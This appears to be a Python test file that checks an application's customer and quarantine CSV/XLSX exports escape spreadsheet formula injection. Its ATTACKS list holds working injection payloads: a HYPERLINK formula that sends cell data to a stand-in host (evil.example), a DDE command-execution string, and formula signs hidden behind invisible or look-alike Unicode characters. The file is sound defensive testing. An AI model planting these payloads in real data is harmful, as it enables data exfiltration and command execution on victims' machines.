"""Spreadsheet formula injection: every export (customer CSV and XLSX, quarantine CSV and
XLSX) cleans a cell first and checks it after, and XLSX holds text, never a formula.

The attack strings hide the formula sign behind what an export strips (control
characters a workbook cannot hold) or what a spreadsheet skips or folds (spaces, tabs,
zero-width and direction marks, full-width and small look-alike signs).
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from import_files import run_import, write_csv
from openpyxl import Workbook, load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from centricity.customers.models import Customer
from centricity.imports.models import ImportJob
from centricity.imports.review import quarantine
from centricity.kit.spreadsheet import cell, looks_like_formula, xlsx_cells

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# What an attacker stores (a database holds every one of these); each must come out escaped.
ATTACKS = [
    PAYLOAD,
    "\x01" + PAYLOAD,  # the probe's finding: stripped for XLSX after the old check
    "\x1f@SUM(1+1)*cmd|' /C calc'!A0",
    "\x0b=1+1",
    "\x08\x0c-2+3",
    "\x7f=1+1",
    "\x85=1+1",
    "\x9b=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n+1+1",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\u200e\u200f=1+1",  # direction marks
    "\u202e=1+1",  # right-to-left override
    "\u2060=1+1",  # word joiner
    "\ufeff=1+1",  # byte-order mark
    "\u0301=1+1",  # a combining mark with nothing before it
    "\uff1d1+1",  # full-width ＝
    "\uff0b1+1",  # full-width ＋
    "\uff0d1+1",  # full-width －
    "\uff20SUM(A1)",  # full-width ＠
    "\ufe661+1",  # small ﹦
    "\ufe621+1",  # small ﹢
    "\ufe631+1",  # small ﹣
    "\ufe6bSUM(A1)",  # small ﹫
    "\u2212 1+1",  # minus sign
    "\u207a1",  # superscript plus (NFKC: +)
    "+420 601 234 567",
    "-2+3",
    "@SUM(A1)",
]
HARMLESS = ["Jana Dvořáková", "O'Brien", "a=1", "1+1", "Пётр Жуков", "", "x\t=1", "Ann\x01e"]
SIGNS = "=+-@"


def _spreadsheet_reading(text: str) -> str:
    """What a forgiving spreadsheet acts on: the text without what XML cannot hold, with
    leading blanks, marks and controls skipped and look-alike signs folded."""
    text = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", "", text)
    start = 0
    while start < len(text) and (
        text[start].isspace() or unicodedata.category(text[start])[0] in "CZM"
    ):
        start += 1
    return unicodedata.normalize("NFKC", text[start:]).replace("\u2212", "-")


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_escapes_formulas_hidden_behind_invisible_or_look_alike_characters(
    attack: str,
) -> None:
    escaped = cell(attack)
    assert escaped.startswith("'")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", escaped)


@pytest.mark.parametrize("text", HARMLESS)
def test_it_leaves_ordinary_text_as_it_is(text: str) -> None:
    assert cell(text) == text.replace("\x01", "")


def test_it_keeps_numbers_and_writes_times_as_iso_text() -> None:
    assert [cell(v) for v in (-5, 2.5, Decimal("-1.20"), None, True)] == [
        -5,
        2.5,
        Decimal("-1.20"),
        None,
        True,
    ]
    assert cell(datetime(2025, 1, 2, 3, 4, tzinfo=UTC)) == "2025-01-02T03:04:00+00:00"
    assert cell(["=1+1"]) == "['=1+1']"


_INVISIBLE = st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp", "Mn"])
_SIGN = st.sampled_from(
    ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\u2212"]
)


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(hidden=st.text(_INVISIBLE, max_size=6), sign=_SIGN, rest=st.text(max_size=20))
def test_a_sign_behind_anything_invisible_is_always_escaped(
    hidden: str, sign: str, rest: str
) -> None:
    assert cell(hidden + sign + rest).startswith("'")


@settings(max_examples=500, deadline=None, derandomize=True, database=None)
@given(text=st.text(max_size=30))
def test_no_text_reaches_a_spreadsheet_as_a_formula(text: str) -> None:
    escaped = cell(text)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]", escaped)
    if not escaped.startswith("'"):
        assert not _spreadsheet_reading(escaped).startswith(tuple(SIGNS))
        assert not escaped.startswith(("\t", "\r", "\n"))
    assert not looks_like_formula(escaped) or escaped.startswith("'")


# ---- through the exports -------------------------------------------------------------


def _sheet_xml(content: bytes) -> str:
    """The worksheet's XML, where a formula would be an `<f>` element."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 1
        return book.read(sheets[0]).decode()


def _assert_no_formula(sheet_xml: str) -> None:
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    types = re.findall(r'<c r="[A-Z]+\d+"([^>]*)>', sheet_xml)
    for attributes in types:
        kind = re.search(r't="([a-zA-Z]+)"', attributes)
        assert kind is None or kind.group(1) in ("s", "inlineStr", "n"), attributes


def test_the_probes_name_is_exported_as_text_not_a_formula(
    anon: TestClient, personas: Any, token_for: Any
) -> None:
    agent, manager = token_for(personas.bob), token_for(personas.alice)
    body = [{"external_id": "PROBE", "name": "\u0001" + PAYLOAD}]
    posted = anon.post(
        "/api/v1/ingest/customers", json=body, headers={**agent, "Idempotency-Key": "probe"}
    )
    assert posted.status_code == 200, posted.text
    answer = anon.get("/api/v1/exports/customers?format=xlsx&q=PROBE", headers=manager)
    assert answer.status_code == 200
    _assert_no_formula(_sheet_xml(answer.content))
    rows = list(load_workbook(io.BytesIO(answer.content)).active.iter_rows(values_only=True))
    assert rows[1][2] == "'" + PAYLOAD  # the control character gone, the text escaped


def test_every_attack_leaves_the_customer_exports_escaped(
    anon: TestClient, personas: Any, token_for: Any, db: Session
) -> None:
    db.add_all(Customer(external_id=f"ATK-{i:02}", name=a) for i, a in enumerate(ATTACKS))
    db.commit()
    manager = token_for(personas.alice)
    answer = anon.get("/api/v1/exports/customers?format=csv", headers=manager)
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    names = {r["external_id"]: r["name"] for r in rows}
    assert len(names) == len(ATTACKS)
    assert all(name.startswith("'") for name in names.values()), names

    answer = anon.get("/api/v1/exports/customers?format=xlsx", headers=manager)
    _assert_no_formula(_sheet_xml(answer.content))
    values = [
        r[2] for r in load_workbook(io.BytesIO(answer.content)).active.iter_rows(values_only=True)
    ]
    assert values[0] == "name" and len(values) == len(ATTACKS) + 1
    assert all(str(v).startswith("'") for v in values[1:]), values


HEADER = ["external_id", "name", "email", "=1+1"]  # an unmapped header column, also escaped
QUARANTINED = [
    ["Q-1", '\x01=HYPERLINK("http://evil")', "bad", "\x1f@SUM(A1)"],
    ["Q-2", " \uff1d1+1", "bad", "\u200b-2+3"],
    ["Q-3", "Fine Name", "fine@example.cz", "x"],
]


def _quarantine(session_maker: sessionmaker[Session], source: Path, folder: Path) -> Path:
    summary = run_import(session_maker, source, "customers")
    assert summary.counts.quarantined == 2
    with session_maker() as session:
        job = session.get(ImportJob, summary.job_id)
        assert job is not None
        out = quarantine.default_path(folder / source.name, job.options["format"])
        quarantine.write(session, job, out)
    return out


def test_quarantine_csv_cells_are_escaped_like_exports(
    session_maker: sessionmaker[Session], tmp_path: Path
) -> None:
    source = write_csv(tmp_path / "people.csv", HEADER, QUARANTINED)
    out = _quarantine(session_maker, source, tmp_path)
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8"), newline="")))
    assert rows[0] == ["line", "reason", "external_id", "name", "email", "'=1+1"]
    assert [r[3] for r in rows[1:]] == ['\'=HYPERLINK("http://evil")', "' \uff1d1+1"]
    assert [r[5] for r in rows[1:]] == ["'@SUM(A1)", "'\u200b-2+3"]


def test_quarantine_xlsx_holds_text_never_a_formula(
    session_maker: sessionmaker[Session], tmp_path: Path
) -> None:
    book = Workbook()
    for r, row in enumerate([HEADER, *QUARANTINED], 1):
        for c, value in enumerate(row, 1):  # text cells, without what XML cannot hold
            text = re.sub("[\x01\x1f]", "", value)
            book.active.cell(row=r, column=c, value=text).data_type = "s"
    source = tmp_path / "people.xlsx"
    book.save(source)
    out = _quarantine(session_maker, source, tmp_path)
    _assert_no_formula(_sheet_xml(out.read_bytes()))
    rows = list(load_workbook(out).active.iter_rows(values_only=True))
    assert rows[0][-1] == "'=1+1"
    assert [r[3] for r in rows[1:]] == ['\'=HYPERLINK("http://evil")', "' \uff1d1+1"]


def test_xlsx_cells_store_every_text_as_a_string() -> None:
    sheet = Workbook(write_only=True).create_sheet("x")
    cells = xlsx_cells(sheet, ["plain", "'=1+1", "", 5, None])
    assert [c.data_type for c in cells] == ["s", "s", "s", "n", "n"]


def test_a_fixed_quarantine_file_imports_without_the_protective_apostrophe(
    session_maker: sessionmaker[Session], db: Session, tmp_path: Path
) -> None:
    header = ["external_id", "name", "email", "phone"]
    rows = [["Q-9", "=Novák & syn", "bad", "+420 601 234 567"], ["Q-10", "Eva", "e@x.cz", ""]]
    source = write_csv(tmp_path / "people.csv", header, rows)
    summary = run_import(session_maker, source, "customers")
    assert summary.counts.quarantined == 1
    with session_maker() as session:
        job = session.get(ImportJob, summary.job_id)
        assert job is not None
        out = tmp_path / "fix.csv"
        assert quarantine.write(session, job, out) == 1
    lines = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
    assert lines[1][3:] == ["'=Novák & syn", "bad", "'+420 601 234 567"]
    lines[1][4] = "novak@example.cz"  # the user fixes the e-mail and saves
    fixed = write_csv(tmp_path / "fixed.csv", lines[0], lines[1:])
    again = run_import(session_maker, fixed, "customers")
    assert (again.counts.inserted, again.counts.quarantined) == (1, 0), again.problems
    stored = db.scalar(select(Customer).where(Customer.external_id == "Q-9"))
    assert stored is not None
    assert (stored.name, stored.phone) == ("=Novák & syn", "+420 601 234 567")
